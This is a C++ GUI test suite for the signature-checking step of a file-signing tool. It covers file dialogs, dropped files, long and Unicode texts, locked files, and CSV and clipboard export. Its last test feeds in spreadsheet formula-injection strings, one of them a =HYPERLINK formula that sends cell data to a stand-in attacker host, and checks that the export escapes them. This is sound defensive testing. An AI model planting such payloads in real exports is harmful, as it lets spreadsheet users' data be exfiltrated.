// The check-signature step driven in-process under Wine: real windows from the real template,
// real files, the open-file dialog and message boxes through the scripted seam.
#include "GuiTest.h"
#include "SigningGui.h"
#include "TempDir.h"

#include "FileIo.h"
#include "FileOps.h"
#include "SigCodeTable.h"
#include "SignEngine.h"
#include "Signature.h"
#include "TestHooks.h"
#include "TrailerReaders.h"
#include "WizardStepOne.h"
#include "WideUtf8.h"
#include "WizardStepTwoDecode.h"
#include "resource.h"

#include <shlobj.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <filesystem>
#include <functional>
#include <initializer_list>
#include <memory>
#include <string>
#include <type_traits>
#include <vector>

namespace fs = std::filesystem;

namespace {

constexpr wchar_t kNoSignature[] = L"No signature found in selected file!";
constexpr wchar_t kCannotOpen[] = L"Could not open file!";

// Writes `content` to `path` and appends a trailer carrying `text`, with a table from `seed`.
void WriteSigned(const fs::path& path, const std::wstring& text, const Bytes& content,
                 std::uint32_t seed) {
    WriteBytes(path, content);
    UniqueFile file = OpenFile(path, "r+b");
    ASSERT_TRUE(file);
    CScopedTestHooks hooks;
    hooks->clock = FixedClock(seed);
    CSigCodeTable table;
    const wchar_t none = 0;
    ASSERT_TRUE(AppendSignature(table, file.get(), text.empty() ? &none : text.data(),
                                text.size() * sizeof(wchar_t)));
}

// `units` code units of Latin, Greek, CJK and surrogate pairs with a CR LF every 70 units.
std::wstring LongText(std::size_t units) {
    static const std::wstring kAlphabet = L"Quorvane signs files Ωμέγα 世界 \xD83D\xDE00 ";
    std::wstring text;
    while (text.size() < units) {
        if (text.size() % 72 == 70 && text.size() + 2 <= units)
            text += L"\r\n";
        else
            text += kAlphabet[text.size() % kAlphabet.size()];
    }
    text.resize(units);
    return text;
}

struct HandleCloser {
    void operator()(HANDLE handle) const { ::CloseHandle(handle); }
};
using UniqueHandle = std::unique_ptr<std::remove_pointer_t<HANDLE>, HandleCloser>;

// Opens `path` for reading without sharing: nobody else can open it while this lives.
UniqueHandle HoldExclusively(const fs::path& path) {
    const HANDLE handle = ::CreateFileW(path.c_str(), GENERIC_READ, 0, nullptr, OPEN_EXISTING,
                                        FILE_ATTRIBUTE_NORMAL, nullptr);
    return UniqueHandle(handle == INVALID_HANDLE_VALUE ? nullptr : handle);
}

// What Explorer hands a window that accepts files: a DROPFILES block with wide names.
HGLOBAL MakeDrop(const std::vector<fs::path>& paths) {
    std::wstring names;
    for (const auto& path : paths) {
        names += path.wstring();
        names += L'\0';
    }
    names += L'\0';
    const std::size_t bytes = sizeof(DROPFILES) + names.size() * sizeof(wchar_t);
    const HGLOBAL memory = ::GlobalAlloc(GHND, bytes);
    auto* drop = static_cast<DROPFILES*>(::GlobalLock(memory));
    drop->pFiles = sizeof(DROPFILES);
    drop->fWide = TRUE;
    std::copy(names.begin(), names.end(),
              reinterpret_cast<wchar_t*>(reinterpret_cast<BYTE*>(drop) + sizeof(DROPFILES)));
    ::GlobalUnlock(memory);
    return memory;
}

class CheckStepTest : public testing::Test {
protected:
    void SetUp() override {
        ASSERT_TRUE(session.Started());
        Click(session.StepWindow(), IDC_CHECK_SIGNATURE);
        PumpPending();
        ASSERT_EQ(session.StepClass(), "CWizardStepTwoDecode");
        step = session.StepWindow();
    }
    void TearDown() override { EXPECT_EQ(session.Seam().unscripted, 0); }

    std::wstring Box() { return WindowText(Control(step, IDC_SIGNATURE_VIEW)); }
    // "Select File", choosing `path` in the open-file dialog.
    void Check(const fs::path& path) {
        session.Seam().ChooseFiles({path.wstring()});
        Click(step, IDC_SELECT_FILE);
    }
    void Drop(const std::vector<fs::path>& paths) {
        ::SendMessageW(step, WM_DROPFILES, reinterpret_cast<WPARAM>(MakeDrop(paths)), 0);
    }
    // A file signed with `text`, named `name` in the test's folder.
    fs::path Signed(const std::wstring& name, const std::wstring& text,
                    std::uint32_t seed = 0x5EED0001) {
        const fs::path path = dir / name;
        WriteSigned(path, text, PatternBytes(1000 + name.size(), seed), seed);
        return path;
    }
    fs::path Plain(const std::wstring& name, const Bytes& content) {
        const fs::path path = dir / name;
        WriteBytes(path, content);
        return path;
    }
    // The one message box shown since `from`, as (text, caption, type, owner).
    void ExpectOneMessage(std::size_t from, const std::wstring& text) {
        const auto& boxes = session.Seam().messageBoxes;
        ASSERT_EQ(boxes.size(), from + 1);
        EXPECT_EQ(boxes[from].text, text);
        EXPECT_EQ(boxes[from].caption, L"Error");
        EXPECT_EQ(boxes[from].type, 0u) << "plain MB_OK, no icon";
        EXPECT_EQ(boxes[from].owner, step);
    }

    TempDir dir;
    CDesktopSession session;
    HWND step = nullptr;
};

TEST_F(CheckStepTest, StartsEmptyWithItsTemplateAndTheBoxStyles) {
    EXPECT_EQ(Box(), L"");
    EXPECT_EQ(WindowText(Control(step, IDC_SELECT_FILE)), L"Select File");
    EXPECT_EQ(WindowText(Control(step, IDC_GO_BACK)), L"Go Back");

    const HWND box = Control(step, IDC_SIGNATURE_VIEW);
    const auto style = static_cast<DWORD>(::GetWindowLongW(box, GWL_STYLE));
    for (DWORD bit :
         std::initializer_list<DWORD>{ES_MULTILINE, ES_READONLY, ES_AUTOVSCROLL, ES_AUTOHSCROLL,
                                      ES_WANTRETURN, WS_VSCROLL, WS_HSCROLL})
        EXPECT_EQ(style & bit, bit) << std::hex << bit;
    EXPECT_NE(::GetWindowLongW(box, GWL_EXSTYLE) & WS_EX_RIGHT, 0);
    EXPECT_NE(::GetWindowLongW(step, GWL_EXSTYLE) & WS_EX_ACCEPTFILES, 0) << "takes dropped files";

    // The keyboard starts on "Select File".
    ::SetFocus(nullptr);
    ::SetFocus(session.FrameWindow());
    PumpPending();
    EXPECT_EQ(::GetFocus(), Control(step, IDC_SELECT_FILE));
}

TEST_F(CheckStepTest, ShowsTheTextOfASignedFileAndLetsItGo) {
    const fs::path file = Signed(L"report.doc", L"abc");
    const Bytes before = ReadBytes(file);
    Check(file);
    EXPECT_EQ(Box(), L"abc");
    EXPECT_TRUE(session.Seam().messageBoxes.empty());

    // One open-file dialog: existing files, several at once, owned by the step.
    ASSERT_EQ(session.Seam().fileDialogs.size(), 1u);
    const OpenFileRequest& request = session.Seam().fileDialogs[0];
    EXPECT_EQ(request.owner, step);
    EXPECT_EQ(request.filter, L"All Files (*.*)|*.*||");
    EXPECT_EQ(request.defaultExt, L"");
    EXPECT_EQ(request.fileName, L"");
    EXPECT_EQ(request.flags,
              static_cast<DWORD>(OFN_HIDEREADONLY | OFN_PATHMUSTEXIST | OFN_FILEMUSTEXIST |
                                 OFN_ENABLESIZING | OFN_ALLOWMULTISELECT));

    // Only read, and closed again: nobody holds it now.
    EXPECT_EQ(ReadBytes(file), before);
    EXPECT_TRUE(HoldExclusively(file)) << "the step left the file open";
}

TEST_F(CheckStepTest, ShowsAFileSignedByTheBatchCommand) {
    struct QuietObserver : ISignObserver {
        void BatchStarted(std::size_t) override {}
        void FileStarted(std::size_t, std::size_t, const std::u16string&) override {}
        void FileFinished(std::size_t, const SignItem&, SignOutcome) override {}
        void ReportFailure(const SignMessage&) override { ADD_FAILURE(); }
        bool AskOverwrite(const SignMessage&) override { return false; }
        void BatchFinished() override {}
        void ShowSummary(const SignMessage&) override {}
    } observer;
    const fs::path source = Plain(L"report.doc", PatternBytes(5000, 7));
    ASSERT_EQ(RunSignBatch({source}, dir.Path(), u"abc", observer).signedCount, 1u);
    Check(dir / L"report_signed.doc");
    EXPECT_EQ(Box(), L"abc");

    // Signing writes into folders deeper than the classic 260-character limit; checking reads
    // what it wrote there, from the path as the user sees it.
    fs::path deep = dir.Path();
    while (deep.native().size() < 300)
        deep /= L"a folder with a long name";
    ASSERT_TRUE(fs::create_directories(LongPath(deep)));
    ASSERT_EQ(RunSignBatch({source}, deep, u"deep", observer).signedCount, 1u);
    const fs::path deepCopy = deep / L"report_signed.doc";
    ASSERT_GT(deepCopy.native().size(), std::size_t{MAX_PATH});
    Check(deepCopy);
    EXPECT_EQ(Box(), L"deep");
}

TEST_F(CheckStepTest, ShowsSeveralLinesAsTheyWereTyped) {
    const std::wstring text = L"First line\r\nSecond line\r\n\r\n  Fourth, after an empty one";
    Check(Signed(L"lines.txt", text));
    EXPECT_EQ(Box(), text);
    EXPECT_EQ(::SendMessageW(Control(step, IDC_SIGNATURE_VIEW), EM_GETLINECOUNT, 0, 0), 4);
    // A window's text would end at U+0000: it shows as the symbol for null, and the rest too.
    Check(Signed(L"zero.txt", std::wstring(L"abc\0def", 7)));
    EXPECT_EQ(Box(), L"abc\u2400def");
}

TEST_F(CheckStepTest, LongTextsAreShownInFullWhateverWasShownBefore) {
    // 8191 units fill what a fixed 16 KiB buffer would hold; 8192 and more would not fit in
    // it, and 32767 is the most a trailer stores. Each follows a different text, short and
    // long, and must replace it completely.
    Check(Signed(L"short.bin", L"abc"));
    ASSERT_EQ(Box(), L"abc");
    std::uint32_t seed = 100;
    for (std::size_t units : {8191u, 8192u, 32767u, 8191u, 1u}) {
        SCOPED_TRACE(units);
        const std::wstring text = LongText(units);
        ++seed;
        Check(Signed(L"long" + std::to_wstring(seed) + L".bin", text, seed));
        const std::wstring shown = Box();
        EXPECT_EQ(shown.size(), units);
        EXPECT_TRUE(shown == text);
    }
    EXPECT_TRUE(session.Seam().messageBoxes.empty());
}

TEST_F(CheckStepTest, FilesWithoutAValidTrailerEmptyTheBoxThenSaySo) {
    const fs::path trailerOnly = dir / L"trailer-only.bin";
    WriteSigned(trailerOnly, L"abc", {}, 9); // 28 bytes: a file of nothing but a trailer
    const fs::path emptyText = dir / L"empty-text.bin";
    WriteSigned(emptyText, L"", PatternBytes(100, 3), 11);

    const fs::path appended = Signed(L"appended.doc", L"appended later");
    {
        UniqueFile file = OpenFile(appended, "ab");
        ASSERT_TRUE(file);
        ASSERT_EQ(std::fputc('x', file.get()), 'x');
    }
    const fs::path twice = Signed(L"twice.doc", L"twice");
    {
        const Bytes signedOnce = ReadBytes(twice);
        Bytes doubled = signedOnce;
        doubled.insert(doubled.end(), signedOnce.begin(), signedOnce.begin() + 10);
        WriteBytes(twice, doubled);
    }
    Bytes damagedBytes = ReadBytes(Signed(L"damaged.doc", L"damaged"));
    damagedBytes.back() ^= 0x01; // the magic's last code
    const fs::path damaged = Plain(L"damaged.doc", damagedBytes);

    const struct {
        const char* what;
        fs::path path;
    } cases[] = {
        {"empty file", Plain(L"empty.bin", {})},
        {"19 bytes", Plain(L"short.bin", PatternBytes(19, 1))},
        {"unsigned", Plain(L"plain.jpg", PatternBytes(4096, 2))},
        {"text of no units", emptyText},
        {"one byte after the trailer", appended},
        {"bytes after the trailer", twice},
        {"damaged magic", damaged},
    };
    ASSERT_TRUE(ReadSignatureText(OpenFile(trailerOnly, "rb").get()).has_value());
    for (const auto& unsignedCase : cases) {
        SCOPED_TRACE(unsignedCase.what);
        Check(trailerOnly);
        ASSERT_EQ(Box(), L"abc");

        const std::size_t from = session.Seam().messageBoxes.size();
        std::wstring boxDuringMessage = L"not asked";
        session.Seam().OnMessageBox([&](const CScriptedSeam::MessageBoxCall&) {
            boxDuringMessage = Box();
            return IDOK;
        });
        Check(unsignedCase.path);
        ExpectOneMessage(from, kNoSignature);
        EXPECT_EQ(boxDuringMessage, L"") << "the box is emptied before the message shows";
        EXPECT_EQ(Box(), L"");
    }
}

TEST_F(CheckStepTest, CancellingTheDialogEmptiesTheBoxWithoutAMessage) {
    Check(Signed(L"report.doc", L"abc"));
    ASSERT_EQ(Box(), L"abc");
    session.Seam().CancelFileDialog();
    Click(step, IDC_SELECT_FILE);
    EXPECT_EQ(Box(), L"");
    EXPECT_TRUE(session.Seam().messageBoxes.empty());
    EXPECT_EQ(session.Seam().fileDialogs.size(), 2u);
}

TEST_F(CheckStepTest, AFileThatCannotBeOpenedKeepsTheTextAndSaysSo) {
    Check(Signed(L"first.doc", L"first\r\ntext"));
    ASSERT_EQ(Box(), L"first\r\ntext");

    const fs::path locked = Signed(L"locked.doc", L"locked");
    {
        const UniqueHandle holder = HoldExclusively(locked);
        ASSERT_TRUE(holder);
        Check(locked);
        ExpectOneMessage(0, kCannotOpen);
        EXPECT_EQ(Box(), L"first\r\ntext");
    }
    // Once the other program lets go, the same file reads.
    Check(locked);
    EXPECT_EQ(Box(), L"locked");
    EXPECT_EQ(session.Seam().messageBoxes.size(), 1u);
}

TEST_F(CheckStepTest, GoBackReturnsHomeAndALaterVisitStartsEmpty) {
    Check(Signed(L"report.doc", L"abc"));
    ASSERT_EQ(Box(), L"abc");
    Click(step, IDC_GO_BACK);
    PumpPending();
    EXPECT_EQ(session.StepClass(), "CWizardStepOne");
    EXPECT_FALSE(::IsWindow(step));
    EXPECT_EQ(AfxCountLiveObjects(RUNTIME_CLASS(CWizardStepTwoDecode)), 0u);

    Click(session.StepWindow(), IDC_CHECK_SIGNATURE);
    PumpPending();
    ASSERT_EQ(session.StepClass(), "CWizardStepTwoDecode");
    step = session.StepWindow();
    EXPECT_EQ(Box(), L"");
}

TEST_F(CheckStepTest, ReadsNonAsciiTextsFromFilesWithNonAsciiNames) {
    const fs::path folder = dir / L"Prüfungen Ω 文件";
    ASSERT_TRUE(fs::create_directory(folder));
    const struct {
        std::wstring name;
        std::wstring text;
    } cases[] = {
        {L"Zeugnis_ñ_\xD83D\xDE00.pdf", L"Grüße aus Köln \x2014 世界 \xD83D\xDE00\r\nЁлка ✓"},
        {L"写真.jpeg", L"\x05E9\x05DC\x05D5\x05DD \x0645\x0631\x062D\x0628\x0627"},
        {L"ÆØÅ", L"\x00FF\x0100\xFFFD\xFEFF"},
    };
    std::uint32_t seed = 0xC0FFEE00;
    for (const auto& signedCase : cases) {
        const fs::path path = folder / signedCase.name;
        ++seed;
        WriteSigned(path, signedCase.text, PatternBytes(333, seed), seed);
        Check(path);
        EXPECT_TRUE(Box() == signedCase.text) << path.u8string().size();
    }
    EXPECT_TRUE(session.Seam().messageBoxes.empty());
}

TEST_F(CheckStepTest, ADroppedFileIsCheckedLikeAChosenOne) {
    const fs::path folder = dir / L"Ordner Ω";
    ASSERT_TRUE(fs::create_directory(folder));
    const fs::path signedFile = folder / L"Übersicht_写真.png";
    WriteSigned(signedFile, L"dropped\r\nÜbersicht 写真", PatternBytes(777, 5), 0xD209);

    Drop({signedFile});
    EXPECT_EQ(Box(), L"dropped\r\nÜbersicht 写真");
    EXPECT_TRUE(session.Seam().messageBoxes.empty());
    EXPECT_TRUE(session.Seam().fileDialogs.empty()) << "a drop asks for nothing";
    EXPECT_TRUE(HoldExclusively(signedFile)) << "the step left the file open";
    {
        const UniqueHandle holder = HoldExclusively(signedFile);
        ASSERT_TRUE(holder);
        Drop({signedFile});
        ExpectOneMessage(0, kCannotOpen);
        EXPECT_EQ(Box(), L"dropped\r\nÜbersicht 写真");
    }
}

// Several files, or a folder: one list of each file with its state, its text's first line and
// its signing time; a row shows its whole text; the list sorts, and saves as UTF-8 CSV.
TEST_F(CheckStepTest, AFolderOrSeveralFilesGiveAListOfTheirSignatures) {
    const fs::path folder = dir / L"Fotos";
    ASSERT_TRUE(fs::create_directories(folder / L"inner"));
    const fs::path late = folder / L"a_late.jpg";
    const fs::path early = folder / L"b_early.jpg";
    WriteSigned(late, L"Ada, 2026\r\nAll rights reserved", PatternBytes(300, 1), 0x66000000);
    WriteSigned(early, L"Bob \"B\", Zürich", PatternBytes(300, 2), 0x50000000);
    WriteBytes(folder / L"c_plain.txt", PatternBytes(40, 3));
    WriteBytes(folder / L"d_locked.bin", PatternBytes(40, 4));
    WriteSigned(folder / L"inner" / L"deeper.jpg", L"not listed", PatternBytes(30, 5), 1);
    const UniqueHandle holder = HoldExclusively(folder / L"d_locked.bin");
    ASSERT_TRUE(holder);
    const fs::path csv = dir / L"list.csv";

    std::vector<std::vector<std::wstring>> rows, byTime;
    std::wstring detail, caption;
    CModalScript script(L"Signatures", [&](HWND dialog) {
        caption = WindowText(dialog);
        rows = ReportRows(dialog, 4);
        const HWND list = ::GetDlgItem(dialog, IDC_REPORT_LIST);
        SelectItems(dialog, {});
        LVITEMW state{};
        state.stateMask = state.state = LVIS_SELECTED;
        ::SendMessageW(list, LVM_SETITEMSTATE, 0, reinterpret_cast<LPARAM>(&state));
        detail = WindowText(::GetDlgItem(dialog, IDC_REPORT_TEXT));
        NMLISTVIEW click{};
        click.hdr.hwndFrom = list;
        click.hdr.idFrom = IDC_REPORT_LIST;
        click.hdr.code = static_cast<UINT>(LVN_COLUMNCLICK);
        click.iItem = -1;
        click.iSubItem = 3;
        ::SendMessageW(dialog, WM_NOTIFY, IDC_REPORT_LIST, reinterpret_cast<LPARAM>(&click));
        byTime = ReportRows(dialog, 4);
        session.Seam().SaveAs(csv.wstring());
        Click(dialog, IDC_REPORT_SAVE);
        Click(dialog, IDCANCEL);
    });
    Drop({folder});
    ASSERT_TRUE(script.Ran());
    EXPECT_EQ(caption, L"Signatures");
    ASSERT_EQ(rows.size(), 4u);
    EXPECT_EQ(rows[0][0], late.wstring());
    EXPECT_EQ(rows[0][1], L"Signed");
    EXPECT_EQ(rows[0][2], L"Ada, 2026") << "the first line";
    EXPECT_FALSE(rows[0][3].empty());
    EXPECT_EQ(rows[1][2], L"Bob \"B\", Zürich");
    EXPECT_EQ((std::vector<std::wstring>{rows[2][1], rows[3][1]}),
              (std::vector<std::wstring>{L"Not signed", kCannotOpen}));
    EXPECT_EQ(detail, L"Ada, 2026\r\nAll rights reserved") << "the whole text";
    // By signing time, earliest first: unsigned files have none.
    ASSERT_EQ(byTime.size(), 4u);
    EXPECT_EQ(byTime[2][0], early.wstring());
    EXPECT_EQ(byTime[3][0], late.wstring());
    const Bytes saved = ReadBytes(csv);
    const std::string text(saved.begin(), saved.end());
    EXPECT_EQ(text.rfind("\xEF\xBB\xBF"
                         "File,Signature,Text,Signed at\r\n",
                         0),
              0u)
        << text;
    EXPECT_NE(text.find(",Signed,\"Bob \"\"B\"\", Z\xC3\xBCrich\","), std::string::npos) << text;
    EXPECT_NE(text.find(",Signed,\"Ada, 2026\r\nAll rights reserved\","), std::string::npos)
        << "the whole text in the file";
    EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 6) << text;

    // Several files named at once, from the command line or the open-file dialog, alike.
    session.Seam().ChooseFiles({late.wstring(), (folder / L"c_plain.txt").wstring()});
    std::size_t listed = 0;
    CModalScript again(L"Signatures", [&](HWND dialog) {
        listed = ReportRows(dialog, 4).size();
        Click(dialog, IDCANCEL);
    });
    Click(step, IDC_SELECT_FILE);
    EXPECT_EQ(listed, 2u);
    EXPECT_TRUE(session.Seam().messageBoxes.empty());
}

std::wstring ClipboardText() {
    std::wstring text;
    if (!::OpenClipboard(nullptr))
        return L"(cannot open the clipboard)";
    if (const HANDLE data = ::GetClipboardData(CF_UNICODETEXT)) {
        if (const auto* chars = static_cast<const wchar_t*>(::GlobalLock(data))) {
            text = chars;
            ::GlobalUnlock(data);
        }
    }
    ::CloseClipboard();
    return text;
}

// A text that a spreadsheet would run as a formula is saved and copied as text, behind an
// apostrophe (quoted in the CSV); the list shows it as it is.
TEST_F(CheckStepTest, TextsASpreadsheetWouldRunAreSavedAndCopiedAsText) {
    const struct {
        std::wstring text;
        std::string csv;     // its field in the CSV
        std::wstring copied; // its cell on the clipboard
    } cells[] = {
        {LR"x(=HYPERLINK("https://attacker.example/?"&A2,"more"))x",
         R"x("'=HYPERLINK(""https://attacker.example/?""&A2,""more"")")x",
         LR"x('=HYPERLINK("https://attacker.example/?"&A2,"more"))x"},
        {L"+1+2", "\"'+1+2\"", L"'+1+2"},
        {L"-2+3", "\"'-2+3\"", L"'-2+3"},
        {L"@SUM(A1:A9)", "\"'@SUM(A1:A9)\"", L"'@SUM(A1:A9)"},
        {L"\t=1+1", "\"'\t=1+1\"", L"' =1+1"},
        {L"\r\n=1+1", "\"'\r\n=1+1\"", L"'  =1+1"},
        {L"Ada =1+1", "Ada =1+1", L"Ada =1+1"},
        {L" =1+1", " =1+1", L" =1+1"},
        {L"'=1+1", "'=1+1", L"'=1+1"},
        {L"Bob, -1", "\"Bob, -1\"", L"Bob, -1"},
    };
    const fs::path folder = dir / L"hostile";
    fs::create_directory(folder);
    for (std::size_t i = 0; i < std::size(cells); ++i)
        WriteSigned(folder / (L"f" + std::to_wstring(i) + L".txt"), cells[i].text,
                    PatternBytes(50, static_cast<std::uint32_t>(i)), 0x66000000);
    const fs::path csv = dir / L"list.csv";
    std::vector<std::vector<std::wstring>> rows;
    std::wstring copied;
    CModalScript script(L"Signatures", [&](HWND dialog) {
        rows = ReportRows(dialog, 4);
        Click(dialog, IDC_REPORT_COPY);
        copied = ClipboardText();
        session.Seam().SaveAs(csv.wstring());
        Click(dialog, IDC_REPORT_SAVE);
        Click(dialog, IDCANCEL);
    });
    Drop({folder});
    ASSERT_TRUE(script.Ran());
    ASSERT_EQ(rows.size(), std::size(cells));
    const Bytes saved = ReadBytes(csv);
    const std::string text(saved.begin(), saved.end());
    for (std::size_t i = 0; i < std::size(cells); ++i) {
        const std::wstring file = (folder / (L"f" + std::to_wstring(i) + L".txt")).wstring();
        SCOPED_TRACE(file);
        const auto row = std::find_if(rows.begin(), rows.end(),
                                      [&](const auto& shown) { return shown[0] == file; });
        ASSERT_NE(row, rows.end());
        EXPECT_EQ((*row)[2], cells[i].text.substr(0, cells[i].text.find_first_of(L"\r\n")));
        EXPECT_NE(
            text.find(Utf8(file) + ",Signed," + cells[i].csv + "," + Utf8((*row)[3]) + "\r\n"),
            std::string::npos)
            << text;
        EXPECT_NE(copied.find(L"\r\n" + file + L"\tSigned\t" + cells[i].copied + L"\t" + (*row)[3] +
                              L"\r\n"),
                  std::wstring::npos)
            << Utf8(copied);
    }
}

} // namespace
